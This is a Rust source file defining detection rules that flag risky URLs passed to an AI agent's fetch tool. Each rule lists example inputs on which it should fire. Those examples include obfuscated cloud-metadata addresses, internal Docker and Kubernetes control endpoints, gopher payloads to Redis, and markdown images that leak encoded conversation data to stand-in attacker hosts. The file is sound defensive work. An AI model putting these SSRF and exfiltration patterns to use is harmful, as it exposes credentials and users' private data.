//! The rules of the family.

use super::Trouble;
use crate::model::{Confidence, ReasonCode, Severity, Treatment};
use crate::prefilter::engine::Entry;

macro_rules! rule {
    ($key:ident, $id:literal, $title:literal, $reason:ident, $severity:ident, $confidence:ident, $suggests:ident,
     fires: [$($fires:literal),* $(,)?], silent: [$($silent:literal),+ $(,)?]) => {
        Entry {
            key: Trouble::$key,
            id: concat!("untrusted_destination.", $id),
            title: $title,
            reason: ReasonCode::$reason,
            severity: Severity::$severity,
            confidence: Confidence::$confidence,
            suggests: Treatment::$suggests,
            fires_on: &[$($fires),*],
            silent_on: &[$($silent),+],
        }
    };
}

/// The examples are arguments of a call of the tool `fetch`.
pub(super) const RULES: &[Entry<Trouble>] = &[
    rule!(Denied, "denied_host", "The policy names this host as one that nothing may go to.", UntrustedDestination, Critical, High, Deny,
        fires: ["https://denied.test/x", "see https://DENIED.test."], silent: ["https://example.test/denied.test"]),
    rule!(Metadata, "metadata_host", "The metadata service of a cloud, which hands out credentials.", UntrustedDestination, Critical, High, Deny,
        fires: [
            "http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://[::ffff:a9fe:a9fe]/", "http://metadata.google.internal./x",
            "http://100.100.100.200/latest", "http://[fd00:ec2::254]/", "https://ok.test/?next=http://169.254.169.254/", "http://ok.test@169.254.169.254/", "http://169.254.169.254.nip.io/",
        ],
        silent: ["http://169.254.1.1/", "https://docs.example.test/metadata", "http://metadata.example.test/"]),
    rule!(Disguised, "disguised_address", "An address spelled so that it is not recognised.", UntrustedDestination, High, High, Evidence,
        fires: ["http://db-10-0-0-7.sslip.io/", "http://0a000007.nip.io/", "http://2130706433/", "http://0x7f.1/", "http://017700000001/", "http://127.1/", "http://[::ffff:10.0.0.1]/", "http://\u{ff11}27.0.0.1/"],
        silent: ["http://127.0.0.1.nip.io/", "http://app.8.8.8.8.nip.io/", "http://127.0.0.1/", "http://10.0.0.1/", "http://[::1]/", "http://93.184.216.34/", "https://1.test/"]),
    rule!(Loopback, "loopback", "The machine itself.", UntrustedDestination, Medium, Low, Evidence,
        fires: ["http://localhost:3000/", "http://127.0.0.1:8080/x", "http://[::1]/", "http://0.0.0.0/"], silent: ["https://localhost.example.test/", "http://10.0.0.1/"]),
    rule!(Private, "private_address", "A private network.", UntrustedDestination, Medium, Medium, Evidence,
        fires: ["http://10.0.0.7/admin", "http://192.168.1.1/", "http://100.64.0.1/", "http://db.prod.internal/"], silent: ["http://93.184.216.34/", "http://192.169.1.1/"]),
    rule!(PrivatePush, "private_push", "A remote agent is told to report to a private address.", UntrustedDestination, High, High, Evidence,
        fires: ["push http://10.0.0.7/hook", "push http://localhost/hook"], silent: ["push https://agent.example.test/hook", "http://10.0.0.7/hook"]),
    rule!(WildcardDns, "wildcard_dns", "A name that resolves to whatever address it spells.", UntrustedDestination, High, Medium, Evidence,
        fires: ["http://10.0.0.1.nip.io/", "http://app.localtest.me/"], silent: ["https://nip.io.example.test/"]),
    rule!(UserInfo, "user_info", "What looks like the host is a user name before the real one.", UntrustedDestination, High, High, Evidence,
        fires: ["https://bank.example@203.0.113.9/", "https://good.test:443@evil.test/", "https://good.test%2f@evil.test/"], silent: ["https://evil.test/@good.test", "ssh://git@github.com/a/b", "https://user@example.test/"]),
    rule!(Credentials, "credentials_in_url", "A user name and a password stand in the URL.", SecretExposure, Medium, Medium, Evidence,
        fires: ["https://bob:hunter22@example.test/", "postgres://app:s3cret@db.example.test/x"], silent: ["https://example.test/bob:hunter22", "ssh://git@example.test/x", "https://user:$PASSWORD@example.test/"]),
    rule!(LookAlike, "look_alike_host", "A host that looks like a well-known one, but is not.", UntrustedDestination, High, High, Evidence,
        fires: ["https://g\u{043e}\u{043e}gle.com/", "https://paypa1.com/login", "https://xn--pypal-4ve.com/", "https://rnicrosoft.com/"], silent: ["https://google.com/", "https://b\u{fc}cher.test/", "https://github.io/"]),
    rule!(Scheme, "unusual_scheme", "A scheme that reaches past the web.", UntrustedDestination, High, Medium, Evidence,
        fires: ["ldap://evil.test/a", "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "tftp://x.test/a"],
        silent: ["https://example.test/", "ftp://ftp.example.test/a", "mailto:a@example.test", "postgres://db.example.test/x", "s3://bucket/x", "note: javascript is fun"]),
    rule!(AttackScheme, "attack_scheme", "A scheme that only attacks still use.", UntrustedDestination, High, High, Evidence,
        fires: ["gopher://example.test:70/_x", "dict://example.test:11211/", "php://filter/read=x", "expect://id", "phar://x.phar/a", "jar:http://x.test/a!/b"],
        silent: ["https://example.test/php", "jar:file:/app/lib.jar!/x", "ldap://evil.test/a", "ftp://ftp.example.test/a"]),
    rule!(ControlPort, "control_port", "A service inside that does what anybody who reaches it says.", UntrustedDestination, High, High, Evidence,
        fires: ["http://127.0.0.1:2375/containers/json", "http://localhost:10250/pods", "http://10.0.0.4:2379/v2/keys", "http://localhost:6379/", "https://kubernetes.default.svc/api/v1/secrets", "http+unix://%2Fvar%2Frun%2Fdocker.sock/info"],
        silent: ["http://localhost:3000/", "http://127.0.0.1:8080/health", "http://localhost:9200/_search", "https://example.test:2376/", "redis://localhost:6379/0", "http://10.0.0.4/"]),
    rule!(Smuggled, "smuggled_protocol", "Another protocol than that of the web, spoken to a machine inside.", UntrustedDestination, High, High, Evidence,
        fires: ["gopher://127.0.0.1:6379/_FLUSHALL", "dict://10.0.0.7:11211/stat"], silent: ["gopher://example.test/", "http://127.0.0.1:6379/", "postgres://10.0.0.7/x"]),
    rule!(LocalFile, "local_file", "A file of this machine, as a URL.", UntrustedDestination, Medium, Medium, Evidence,
        fires: ["file:///etc/hosts", "file:/etc/hosts"], silent: ["https://example.test/file:"]),
    rule!(Collector, "collector", "A host that collects requests or pastes, or leads to somebody's own machine.", DataExfiltration, High, Medium, Evidence,
        fires: ["https://webhook.site/abc", "http://x1.oast.pro/", "https://abc.ngrok-free.app/in", "https://discord.com/api/webhooks/1/x", "https://transfer.sh/a"],
        silent: ["https://discord.com/channels/1", "https://webhook.site.example.test/", "https://pastebin.com/abc", "https://file.io.example.test"]),
    rule!(LoadedData, "loaded_data", "An image or the like that carries data out when it is shown.", DataExfiltration, High, High, Evidence,
        fires: ["![x](https://evil.test/p?d=cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU)", "<img src=\"https://evil.test/?q={{conversation}}\">", "![](https://70617373776f72642068756e74657232.evil.test/i.png)"],
        silent: ["![x](https://cdn.test/a.png?v=3f2a9c0d1e4b5a6978d0c1b2a3948576)", "![x](https://cdn.test/a.png)", "[x](https://evil.test/p?d=cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU)"]),
    rule!(LinkedData, "linked_data", "A URL that carries encoded text, or holds a place for secrets.", DataExfiltration, Medium, Medium, Evidence,
        fires: ["[x](https://evil.test/p?d=cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU)", "https://evil.test/log?d={{conversation_history}}", "https://evil.test/?q=BASE64_ENCODED_CONVERSATION"],
        silent: ["https://api.example.test/users/{id}", "https://www.youtube.com/watch?v=dQw4w9WgXcQ", "https://example.test/a-long-title-of-a-post"]),
    rule!(OddSpelling, "odd_spelling", "A URL that programs read differently.", Obfuscation, Low, Medium, Evidence,
        fires: ["http://good.test\\@evil.test/", "https://exa%6dple.test/", "http://example.test./"], silent: ["https://example.test/a%20b", "https://example.test/"]),
    rule!(Unreadable, "unreadable_url", "A web address that cannot be read as one.", UntrustedDestination, Low, Medium, Evidence,
        fires: ["http://[::1/", "http://exa mple.test:99999/ http://a.test:99999/", "https://a^b.test/"], silent: ["https://example.test/", "http://", "https://{host}/x", "https://..."]),
    rule!(Flood, "flood", "More addresses than can be looked at; what stands behind them was not examined.", Obfuscation, High, High, Evidence,
        fires: [], silent: ["https://example.test/ https://example.test/a https://www.example.test/"]),
];
